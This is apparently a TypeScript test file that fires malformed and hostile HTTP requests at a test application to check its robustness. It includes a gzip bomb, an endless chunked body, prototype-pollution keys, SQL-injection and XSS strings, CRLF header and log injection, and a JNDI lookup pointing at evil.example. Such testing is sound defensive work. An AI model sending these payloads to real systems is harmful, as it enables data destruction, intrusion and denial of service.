import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import type { TestApp } from '../support/app.ts';
import { VALID } from '../support/raw.ts';
import { type Attacks, lengthOf, type Message, message, messages, POST } from './attack.ts';

export function bodies(app: TestApp): Attacks {
  const { HOST, AUTH, create, withFraming } = messages(app);
  const coded = (coding: string, ...all: readonly Buffer[]) =>
    all.map((body) => create(body, `Content-Encoding: ${coding}`));
  const typed = (...types: readonly string[]) =>
    types.map((type) => message(POST, [HOST, AUTH, `Content-Type: ${type}`, lengthOf(VALID)], VALID));
  const gzip = gzipSync(VALID);
  const miscounted = Buffer.from(gzip);
  miscounted.writeUInt32LE(0, gzip.length - 8);
  return {
    'too large a body': [
      create(VALID + ' '.repeat(65_537 - VALID.length)),
      withFraming(['Content-Length: 1000000000'], VALID),
      withFraming(['Content-Length: 18446744073709551615'], VALID),
    ],
    'a body without end': [endless(String(withFraming(['Transfer-Encoding: chunked'], '')))],
    'a bomb': coded('gzip', gzipSync(Buffer.alloc(60_000_000, ' '), { level: 9 })),
    'gzip in gzip': coded('gzip', gzipSync(gzip)),
    'another coding': [
      ...coded('deflate', deflateSync(VALID)),
      ...coded('br', brotliCompressSync(VALID)),
      ...coded('zstd', zstdCompressSync(VALID)),
      ...coded('gzip, gzip', gzipSync(gzip)),
      create(gzipSync(gzip), 'Content-Encoding: gzip', 'Content-Encoding: gzip'),
    ],
    'gzip that is broken': coded(
      'gzip',
      gzip.subarray(0, -4),
      miscounted,
      Buffer.concat([gzip, Buffer.from('junk')]),
      deflateSync(VALID),
      Buffer.from(VALID),
    ),
    'gzip of nothing': coded('gzip', gzipSync(''), Buffer.concat(Array.from({ length: 3000 }, () => gzipSync('')))),
    'the form of a page': typed('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'),
  };
}

/** Sends chunks for as long as somebody takes them. */
function endless(head: string): Message {
  return (socket) => {
    const pump = () => {
      while (socket.write(`1000\r\n${'x'.repeat(4096)}\r\n`));
    };
    socket.write(head);
    socket.on('drain', pump);
    pump();
  };
}

export function documents(app: TestApp): Attacks {
  const { create } = messages(app);
  const all = (...texts: readonly (string | Buffer)[]) => texts.map((text) => create(text));
  const withId = (...ids: readonly string[]) => all(...ids.map((id) => `{"id":${id},"name":"x"}`));
  const withMember = (...members: readonly string[]) => all(...members.map((each) => `{"id":1,"name":"x",${each}}`));
  const members = (name: (index: number) => string) =>
    `{${Array.from({ length: 7000 }, (_, index) => `"${name(index)}":0`).join(',')}}`;
  const bytes = (hex: string) =>
    Buffer.concat([Buffer.from('{"id":1,"name":"'), Buffer.from(hex, 'hex'), Buffer.from('"}')]);
  return {
    'deep nesting': all('['.repeat(33) + ']'.repeat(33), '['.repeat(30_000), '{"a":'.repeat(10_000)),
    'many members': all(
      members((index) => index.toString(36)),
      members(String),
      `[${'0,'.repeat(32_000)}0]`,
    ),
    'names of prototypes': [
      ...withMember('"__proto__":{"tag":"x"}', '"constructor":{"prototype":{"tag":"x"}}', '"toString":1'),
      ...withMember(String.raw`"\u005f_proto__":{"tag":"x"}`, '"hasOwnProperty":1', '"prototype":{}'),
      ...all('{"__proto__":{"id":1,"name":"x"}}', '{"id":1,"name":{"__proto__":{"length":1}}}'),
    ],
    'a member twice': [
      ...withMember('"name":"y"', String.raw`"n\u0061me":"y"`, '"__proto__":1,"__proto__":2'),
      ...withMember(`"${'n'.repeat(30_000)}":1,"${'n'.repeat(30_000)}":1`),
    ],
    'almost JSON': [
      ...withId('NaN', 'Infinity', '-Infinity', '0x1', '01', '1_0', '1n', '+1'),
      ...all(`\ufeff${VALID}`, VALID + VALID, `/**/${VALID}`, "{'id':1}", Buffer.from(VALID, 'utf16le')),
      ...withMember('', '"tag":"\0"', String.raw`"tag":"\x41"`),
    ],
    'almost UTF-8': all(bytes('c0af'), bytes('eda080'), bytes('ff'), bytes('f4908080')),
    'an id out of range': [
      ...withId('1'.repeat(60_000), '1e999999999', '1e-999999999', '9223372036854775808', `0.${'0'.repeat(60_000)}1`),
      ...withId('"1"', 'true', '[1]', '{"$gt":0}', 'null'),
    ],
    'one, spelt at length': withId(`1.${'0'.repeat(60_000)}`, `1${'0'.repeat(60_000)}e-60000`),
    'half characters': [
      ...withMember(String.raw`"tag":"\u0000"`, String.raw`"tag":"\ud800"`, String.raw`"tag":"\udc00\ud800"`),
    ],
  };
}

export function injections(app: TestApp): Attacks {
  const { create, get, withLine } = messages(app);
  const named = (...names: readonly string[]) =>
    names.map((name) => create(JSON.stringify({ id: 1, name, tag: name })));
  const identified = (...ids: readonly string[]) => ids.map((id) => get('/openapi.yaml', `X-Request-Id: ${id}`));
  return {
    SQL: named("'); drop table plants; --", "' or '1'='1", '"; delete from tokens; --', '\\', '%', '${1+1}'),
    markup: named('<script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>'),
    'markup in a path': [withLine('POST /<script>alert(1)</script> HTTP/1.1')],
    'a request id': [
      ...identified(
        'a%0d%0aSet-Cookie:x=1',
        'a b',
        '"},{"',
        '${jndi:ldap://evil.example}',
        'x'.repeat(129),
        '\xe9',
        'a\tb',
      ),
      get('/openapi.yaml', 'X-Request-Id: a', 'X-Request-Id: b'),
    ],
    'a path that writes the log': [
      '/%0d%0a{"level":"fatal"}',
      '/"},{"level":"fatal',
      '/%1b[2J',
      '/\\n',
      `/${'x'.repeat(9000)}`,
    ].map((path) => get(path)),
  };
}
